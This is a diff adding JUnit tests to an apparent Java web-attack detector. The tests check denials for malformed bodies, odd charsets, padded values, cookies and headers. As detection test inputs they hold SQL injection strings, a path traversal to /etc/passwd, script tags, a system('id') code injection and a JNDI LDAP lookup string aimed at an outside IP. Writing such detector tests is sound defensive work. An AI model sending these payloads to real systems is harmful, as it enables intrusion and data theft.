@@ -3,9 +3,11 @@ package dev.portcullis.attack;
 import static org.assertj.core.api.Assertions.assertThat;
 import static org.assertj.core.api.Assertions.assertThatThrownBy;
 
+import dev.portcullis.Header;
 import dev.portcullis.Reply;
 import dev.portcullis.Verdict;
 import dev.portcullis.http.RecordedWire;
+import java.util.List;
 import org.junit.jupiter.api.Test;
 
 class AttacksTest {
@@ -82,6 +84,161 @@ class AttacksTest {
     @Test
     void doesNotReadOtherMediaTypes() {
         assertThat(attacks.check(post("text/plain", "1' or '1'='1").view())).isSameAs(Verdict.pass());
+    }
+
+    @Test
+    void deniesJsonThatCannotBeRead() {
+        assertThat(denial(post("application/json", "{\"a\": 1, \"a\": 2}")).reply())
+                .isEqualTo(Reply.problem(400, "malformed-body"));
+    }
+
+    @Test
+    void readsJsonUnderEveryNameOfIts() {
+        for (var type : List.of("application/merge-patch+json", "text/json", "APPLICATION/JSON; charset=UTF-8")) {
+            assertThat(denial(post(type, "[\"1' or '1'='1\"]")).reply().code()).isEqualTo("attack-detected");
+        }
+    }
+
+    @Test
+    void deniesACharsetInWhichAnAttackCouldHide() {
+        assertThat(denial(post(FORM + "; charset=ibm037", "a=b")).reply().status())
+                .isEqualTo(415);
+        assertThat(denial(post(FORM + "; charset=utf-16", "a=b")).reply().status())
+                .isEqualTo(415);
+        assertThat(attacks.check(post(FORM + "; charset=ISO-8859-1", "a=b").view()))
+                .isSameAs(Verdict.pass());
+    }
+
+    @Test
+    void deniesAnEncodedBodyThatItIsMeantToRead() {
+        var deny = denial(post("application/json", "{}").with("Content-Encoding", "gzip"));
+
+        assertThat(deny.reply().status()).isEqualTo(415);
+        assertThat(deny.reply().headers()).contains(new Header("Accept-Encoding", "identity"));
+    }
+
+    @Test
+    void deniesABodyOfAnUnreadableMediaType() {
+        assertThat(denial(post("application/json;;=", "{}")).reply().status()).isEqualTo(415);
+    }
+
+    @Test
+    void looksAtTheTailOfALongValue() {
+        var padding = "lorem ipsum ".repeat(5_000);
+
+        assertThat(denial(post(FORM, "q=" + padding + "' or 1=1 --")).evidence().matched())
+                .contains("sql-injection");
+        assertThat(attacks.check(post(FORM, "q=" + padding).view())).isSameAs(Verdict.pass());
+    }
+
+    @Test
+    void looksAtTheLastOfManyParameters() {
+        var query = "a=1&".repeat(2_000) + "q=../../etc/passwd";
+
+        assertThat(denial(RecordedWire.of("GET", "/?" + query)).evidence().detail())
+                .startsWith("query parameter `q`");
+    }
+
+    @Test
+    void looksAtNamesAsWellAsValues() {
+        assertThat(denial(RecordedWire.of("GET", "/?%3Cscript%3E=1")).evidence().detail())
+                .startsWith("name of query parameter `<script>`");
+        assertThat(denial(post("application/json", "{\"$where\": \"1\"}"))
+                        .evidence()
+                        .reason())
+                .isEqualTo("nosql-injection");
+    }
+
+    @Test
+    void looksAtCookiesAndAtHeadersThatApplicationsRead() {
+        var wire = RecordedWire.of("GET", "/");
+
+        assertThat(denial(wire.with("Cookie", "a=b; track=1'+or+'1'='1"))
+                        .evidence()
+                        .detail())
+                .startsWith("cookie `track`");
+        assertThat(denial(wire.with("x-client", "${jndi:ldap://203.0.113.7/a}"))
+                        .evidence()
+                        .detail())
+                .startsWith("header `x-client`");
+        assertThat(denial(wire.with("User-Agent", "${jndi:ldap://203.0.113.7/a}"))
+                        .evidence()
+                        .reason())
+                .isEqualTo("jndi-lookup");
+    }
+
+    @Test
+    void doesNotLookAtStandardHeaders() {
+        var request = RecordedWire.of("GET", "/")
+                .with("Accept", "text/html,application/xml;q=0.9,*/*;q=0.8")
+                .with("Authorization", "Digest username='x' or '1'='1'")
+                .with("If-None-Match", "\"a\" or \"1\"=\"1\"")
+                .view();
+
+        assertThat(attacks.check(request)).isSameAs(Verdict.pass());
+    }
+
+    @Test
+    void namesAllDetectorsThatSpeak() {
+        var deny = denial(RecordedWire.of("GET", "/?q=%3Cscript%3Ealert(1)%3C/script%3E%27;system(%27id%27)"));
+
+        assertThat(deny.evidence().matched()).containsSequence("cross-site-scripting", "code-injection");
+    }
+
+    @Test
+    void boundsItsEvidence() {
+        var name = "n".repeat(5_000);
+        var deny = denial(RecordedWire.of("GET", "/?" + name + "=%27%20or%201=1%20--" + "x".repeat(5_000)));
+
+        assertThat(deny.evidence().detail()).hasSizeLessThan(300);
+    }
+
+    @Test
+    void theStricterLevelDeniesFainterHints() {
+        var request = RecordedWire.of("GET", "/?q=%3Csvg%3E");
+
+        assertThat(attacks.check(request.view())).isSameAs(Verdict.pass());
+        assertThat(Attacks.builder().level(Level.STRICT).build().check(request.view()))
+                .isInstanceOf(Verdict.Deny.class);
+    }
+
+    @Test
+    void theLowerLevelPassesWhatAuthorsOfCodeSend() {
+        var request = RecordedWire.of("GET", "/?q=%3Cscript%20src=a.js%3E");
+
+        assertThat(attacks.check(request.view())).isInstanceOf(Verdict.Deny.class);
+        assertThat(Attacks.builder().level(Level.LOW).build().check(request.view()))
+                .isSameAs(Verdict.pass());
+    }
+
+    @Test
+    void listsItsDetectorsByStableIds() {
+        assertThat(Attacks.detectors())
+                .containsExactlyInAnyOrder(
+                        "code-injection",
+                        "command-injection",
+                        "cross-site-scripting",
+                        "header-injection",
+                        "java-deserialisation",
+                        "jndi-lookup",
+                        "ldap-injection",
+                        "log-injection",
+                        "nosql-injection",
+                        "path-traversal",
+                        "remote-file",
+                        "server-side-include",
+                        "sql-injection",
+                        "template-injection",
+                        "xml-entity");
+    }
+
+    @Test
+    void refusesABoundThatReadsNothing() {
+        var builder = Attacks.builder();
+
+        assertThatThrownBy(() -> builder.maxBytes(0))
+                .isInstanceOf(IllegalArgumentException.class)
+                .hasMessage("maxBytes: 0 (expected: >= 1)");
     }
 
     @Test
